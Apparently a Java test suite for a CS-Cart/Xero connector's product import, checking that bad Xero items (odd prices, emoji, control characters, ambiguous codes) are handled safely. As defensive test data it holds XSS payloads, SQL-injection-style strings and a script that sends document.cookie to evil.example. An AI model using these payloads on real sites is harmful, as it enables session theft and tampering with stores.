package io.cscartxero.badinput;

import static io.cscartxero.testsupport.XeroUser.object;
import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import io.cscartxero.testsupport.ConnectorHarness;
import io.cscartxero.testsupport.XeroUser;

import org.junit.jupiter.api.Test;

import tools.jackson.databind.node.ObjectNode;

/**
 * productImportJob over a Xero organisation whose items hold what CS-Cart cannot store (negative or huge prices,
 * emoji, control characters) or match CS-Cart products ambiguously. One organisation, one run; the table says what
 * each item is and what must become of it.
 */
class ProductImportBadInputTest extends BadStoreRun<CustomerImportBadInputTest.Sides> {

    private final List<String> good = new ArrayList<>();

    @Override
    String job() {
        return "productImportJob";
    }

    @Override
    CustomerImportBadInputTest.Sides prepare() {
        harness = ConnectorHarness.start();
        var sides = new CustomerImportBadInputTest.Sides(new XeroUser(harness.sandbox), new StoreRows(harness.cscartJdbc()));
        for (int i = 0; i < 3; i++) {
            good.add(sides.xero().item(item("XGOOD-" + i, "Good item " + i, new BigDecimal("9.9" + i))));
        }
        // codes differing only in case or trailing blanks: see aCodeDifferingOnlyInCaseOrTrailingBlanksMatchesTheExistingProduct
        sides.store().product("SKU-CASE", "Case product in CS-Cart", "5.00");
        sides.xero().item(item("sku-case", "Case product in Xero", new BigDecimal("6.00")));
        sides.store().product("PAD-1 ", "Padded product in CS-Cart", "5.00");
        sides.xero().item(item("PAD-1", "Padded product in Xero", new BigDecimal("6.00")));
        return sides;
    }

    private long lastProductBefore;
    private final Map<String, Integer> codesBefore = new java.util.HashMap<>();

    @Override
    void beforeApp() {
        harness.set("cscart.import.category-id", "3");
        lastProductBefore = store().queryForObject("SELECT COALESCE(MAX(product_id), 0) FROM cscart_products", Long.class);
        store().query("SELECT LOWER(TRIM(product_code)), COUNT(*) FROM cscart_products GROUP BY 1",
                rs -> {
                    codesBefore.put(rs.getString(1), rs.getInt(2));
                });
    }

    @Override
    List<String> goodIds() {
        return good;
    }

    private static ObjectNode item(String code, String name, BigDecimal price) {
        ObjectNode item = object().put("Code", code);
        if (name != null) {
            item.put("Name", name);
        }
        if (price != null) {
            item.putObject("SalesDetails").put("UnitPrice", price).put("AccountCode", "200");
        }
        return item;
    }

    /**
     * The products standing for the item: the one it is linked to (matched or created by the run), plus any other
     * product the run created with its code. Exactly 1 when the import neither lost nor duplicated it.
     */
    @Override
    int copiesInTarget(String itemId) {
        List<Long> linked = connectorDb().queryForList("SELECT cscart_id FROM sync_link WHERE entity = 'ITEM' AND state = 'SYNCED' "
                + "AND xero_id = ?", Long.class, itemId);
        if (linked.isEmpty()) {
            return 0;
        }
        List<String> codes = store().queryForList("SELECT product_code FROM cscart_products WHERE product_id = ?", String.class, linked.get(0));
        if (codes.isEmpty()) {
            return 0;
        }
        String key = codes.get(0).strip().toLowerCase(java.util.Locale.ROOT);
        int created = codeCount(codes.get(0)) - codesBefore.getOrDefault(key, 0);
        boolean linkedWasCreated = linked.get(0) > lastProductBefore;
        return 1 + created - (linkedWasCreated ? 1 : 0);
    }

    /** Products whose code is this one, compared as Xero compares codes (case and surrounding blanks ignored). */
    private int codeCount(String code) {
        return store().queryForObject("SELECT COUNT(*) FROM cscart_products WHERE LOWER(TRIM(product_code)) = LOWER(TRIM(?))",
                Integer.class, code);
    }

    private Map<String, Object> product(String itemId) {
        Long productId = connectorDb().queryForObject("SELECT cscart_id FROM sync_link WHERE entity = 'ITEM' AND xero_id = ?",
                Long.class, itemId);
        return store().queryForMap("SELECT p.product_id, p.product_code, p.status, d.product, d.full_description, pr.price "
                + "FROM cscart_products p JOIN cscart_product_descriptions d ON d.product_id = p.product_id AND d.lang_code = 'en' "
                + "LEFT JOIN cscart_product_prices pr ON pr.product_id = p.product_id AND pr.lower_limit = 1 AND pr.usergroup_id = 0 "
                + "WHERE p.product_id = ?", productId);
    }

    @Override
    List<Case<CustomerImportBadInputTest.Sides>> cases() {
        return List.of(
                Case.logged("negative price", "UnitPrice -5.00", "has a price CS-Cart cannot store",
                        s -> s.xero().item(item("NEG-1", "Negative", new BigDecimal("-5.00")))),
                Case.logged("price above CS-Cart's column", "UnitPrice 99,999,999,999.99 (decimal(12,2) ends at 9,999,999,999.99)",
                        "has a price CS-Cart cannot store",
                        s -> s.xero().item(item("HUGE-1", "Huge", new BigDecimal("99999999999.99")))),
                Case.synced("no sales details", "no SalesDetails at all (no price)",
                        s -> s.xero().item(item("NOPRICE-1", "No price", null)),
                        id -> assertThat((BigDecimal) product(id).get("price")).isEqualByComparingTo("0")),
                Case.synced("price with 4 decimals", "UnitPrice 1.2345 (unitdp=4)",
                        s -> s.xero().item(item("FOURDP-1", "Four decimals", new BigDecimal("1.2345"))),
                        id -> assertThat((BigDecimal) product(id).get("price")).isEqualByComparingTo("1.23")),
                Case.synced("name with an emoji", "Name 'Mug 🍕' (CS-Cart's utf8 cannot hold it)",
                        s -> s.xero().item(item("EMOJI-1", "Mug 🍕", new BigDecimal("5.00"))),
                        id -> assertThat(product(id).get("product")).isEqualTo("Mug \uFFFD")),
                Case.synced("name with control characters", "Name 'Mug\\u0000 of\\u0007 doom'",
                        s -> s.xero().item(item("CTRL-1", "Mug\u0000 of\u0007 doom", new BigDecimal("5.00"))),
                        id -> assertThat(product(id).get("product")).isEqualTo("Mug of doom")),
                Case.synced("no name", "Code only",
                        s -> s.xero().item(item("NONAME-1", null, new BigDecimal("5.00"))),
                        id -> assertThat(product(id).get("product")).isEqualTo("NONAME-1")),
                Case.synced("description of 4000 characters with emoji", "Description at Xero's maximum, emoji and BEL inside",
                        s -> s.xero().item(item("DESC-1", "Long description", new BigDecimal("5.00"))
                                .put("Description", ("Pizza 🍕 mug\u0007 ").repeat(300).substring(0, 4000))),
                        id -> assertThat((String) product(id).get("full_description")).contains("\uFFFD").doesNotContain("\u0007")),
                Case.synced("code with '/' and blanks", "Code 'AB/12 X'",
                        s -> s.xero().item(item("AB/12 X", "Slashed", new BigDecimal("5.00"))),
                        id -> assertThat(product(id).get("product_code")).isEqualTo("AB/12 X")),
                Case.synced("script and markup in name and description", "Name '<img src=x onerror=alert(1)>Mug', Description '<script>…' with line breaks",
                        s -> s.xero().item(item("XSS-1", "<img src=x onerror=alert(1)>Mug", new BigDecimal("5.00"))
                                .put("Description", "<script>alert(document.cookie)</script>\nLine two & <b>bold</b>\r\nLine three")),
                        id -> {
                            Map<String, Object> p = product(id);
                            assertThat(p.get("product")).isEqualTo("Mug");
                            assertThat((String) p.get("full_description")).doesNotContain("<script").doesNotContain("<b>")
                                    .isEqualTo("&lt;script&gt;alert(document.cookie)&lt;/script&gt;<br>\nLine two &amp; &lt;b&gt;bold&lt;/b&gt;<br>\nLine three");
                        }),
                Case.synced("name that is only markup", "Name '<img src=x onerror=alert(1)>' (nothing left once tags go)",
                        s -> s.xero().item(item("XSS-2", "<img src=x onerror=alert(1)>", new BigDecimal("5.00"))),
                        id -> assertThat(product(id).get("product")).isEqualTo("XSS-2")),
                Case.synced("entities that decode to a tag", "Name '&lt;script&gt;alert(1)&lt;/script&gt; Mug'",
                        s -> s.xero().item(item("XSS-3", "&lt;script&gt;alert(1)&lt;/script&gt; Mug", new BigDecimal("5.00"))),
                        id -> assertThat((String) product(id).get("product")).doesNotContain("<")),
                Case.synced("code with markup", "Code '<b>BOLD-1</b>'",
                        s -> s.xero().item(item("<b>BOLD-1</b>", "Bold code", new BigDecimal("5.00"))),
                        id -> assertThat(product(id).get("product_code")).isEqualTo("BOLD-1")),
                Case.synced("SQL-looking text", "Name \"Mug'); DROP TABLE cscart_products;--\", Description \"' OR 1=1 --\"",
                        s -> s.xero().item(item("SQL-1", "Mug'); DROP TABLE cscart_products;--", new BigDecimal("5.00"))
                                .put("Description", "' OR 1=1 --")),
                        id -> assertThat(product(id)).containsEntry("product", "Mug'); DROP TABLE cscart_products;--")
                                .containsEntry("full_description", "&#039; OR 1=1 --")),
                Case.synced("code of two CS-Cart products", "CS-Cart has 'TWICE-1' twice; the lowest id is updated",
                        s -> {
                            long first = s.store().product("TWICE-1", "First twice", "5.00");
                            s.store().product("TWICE-1", "Second twice", "5.00");
                            String id = s.xero().item(item("TWICE-1", "Twice renamed", new BigDecimal("7.00")));
                            s.store().jdbc.update("UPDATE cscart_products SET status = 'H' WHERE product_id = ?", first);
                            return id;
                        },
                        id -> assertThat(product(id)).containsEntry("status", "H").containsEntry("product", "Twice renamed")));
    }

    /** Price warnings of the matched existing products (SKU-CASE, PAD-1, TWICE-1): error-log rows that skip nothing. */
    @Override
    long extraLogged() {
        return 3;
    }

    @Test
    void pricesOfExistingProductsStayAndEachChangeIsReported() {
        assertThat(store().queryForList("SELECT pr.price FROM cscart_product_prices pr JOIN cscart_products p ON p.product_id = pr.product_id "
                + "WHERE TRIM(p.product_code) IN ('SKU-CASE', 'PAD-1', 'TWICE-1') AND pr.lower_limit = 1 AND pr.usergroup_id = 0", BigDecimal.class))
                .hasSize(4).allSatisfy(price -> assertThat(price).isEqualByComparingTo("5.00"));
        assertThat(errors).filteredOn(e -> e.message().startsWith("Warning: the price")).hasSize(3)
                .allSatisfy(e -> assertThat(e.message()).contains("cscart.import.update-prices=true"));
    }

    /**
     * Someone with access to Xero edits the item of a live product: price 5,399.99 → 0.01, a name and a description
     * carrying script. The price stays (a warning row says what Xero holds) until the merchant turns on
     * {@code cscart.import.update-prices}; the status never changes; no markup reaches CS-Cart.
     */
    @Test
    void anItemEditedInXeroCannotRepriceOrInjectIntoALiveProduct() {
        try (ConnectorHarness own = ConnectorHarness.start()) {
            StoreRows rows = new StoreRows(own.cscartJdbc());
            long live = rows.product("LIVE-1", "Gaming laptop", "5399.99");
            own.set("cscart.import.category-id", "3");
            var app = own.startApp();
            assertThat(ConnectorHarness.jobs(app).run("productExportJob", Map.of()).exitCode()).isZero();
            String itemId = app.getBean(org.springframework.jdbc.core.JdbcTemplate.class).queryForObject(
                    "SELECT xero_id FROM sync_link WHERE entity = 'ITEM' AND cscart_id = ?", String.class, Long.toString(live));
            new io.cscartxero.testsupport.XeroUser(own.sandbox).post("/Items?unitdp=4", """
                    {"Items":[{"ItemID":"%s","Code":"LIVE-1","Name":"<img src=x onerror=alert(1)>",
                      "Description":"<script>document.location='https://evil.example/?'+document.cookie</script>",
                      "SalesDetails":{"UnitPrice":0.01}}]}""".formatted(itemId));
            var store = own.cscartJdbc();
            String sql = "SELECT p.status, d.product, d.full_description, pr.price FROM cscart_products p JOIN cscart_product_descriptions d "
                    + "ON d.product_id = p.product_id AND d.lang_code = 'en' JOIN cscart_product_prices pr ON pr.product_id = p.product_id "
                    + "AND pr.lower_limit = 1 AND pr.usergroup_id = 0 WHERE p.product_id = ?";

            var outcome = ConnectorHarness.jobs(app).run(job(), Map.of());

            assertThat(outcome.exitCode()).as(outcome.message()).isZero();
            Map<String, Object> p = store.queryForMap(sql, live);
            assertThat(p).containsEntry("status", "A").containsEntry("product", "Gaming laptop");
            assertThat((BigDecimal) p.get("price")).isEqualByComparingTo("5399.99");
            assertThat((String) p.get("full_description")).doesNotContain("<script").startsWith("&lt;script&gt;document.location=");
            assertThat(app.getBean(io.cscartxero.sync.ErrorLog.class).find(job(), outcome.execution().getId(), 10)).singleElement()
                    .satisfies(e -> assertThat(e.message()).contains("0.01").contains("5399.99").contains("cscart.import.update-prices=true"));

            own.set("cscart.import.update-prices", "true");
            var allowed = ConnectorHarness.jobs(own.startApp()).run(job(), Map.of("full", "true"));

            assertThat(allowed.exitCode()).as(allowed.message()).isZero();
            p = store.queryForMap(sql, live);
            assertThat((BigDecimal) p.get("price")).as("the merchant allowed price updates").isEqualByComparingTo("0.01");
            assertThat(p).containsEntry("status", "A").containsEntry("product", "Gaming laptop");
        }
    }

    /** Found by this suite (a second product was created), fixed in ccff772. */
    @Test
    void aCodeDifferingOnlyInCaseOrTrailingBlanksMatchesTheExistingProduct() {
        org.assertj.core.api.SoftAssertions.assertSoftly(soft -> {
            soft.assertThat(codeCount("SKU-CASE")).as("products with code SKU-CASE / sku-case").isEqualTo(1);
            soft.assertThat(codeCount("PAD-1")).as("products with code 'PAD-1 ' / 'PAD-1'").isEqualTo(1);
        });
    }

    @Test
    void aFullRerunOverTheSameXeroDataWritesNothingToCsCart() {
        String before = checksum("products", "product_descriptions", "product_prices", "products_categories");
        var again = ConnectorHarness.jobs(app).run(job(), Map.of("full", "true"));
        assertThat(again.execution().getStatus()).as(again.message()).isEqualTo(org.springframework.batch.core.BatchStatus.COMPLETED);
        assertThat(checksum("products", "product_descriptions", "product_prices", "products_categories")).isEqualTo(before);
    }
}
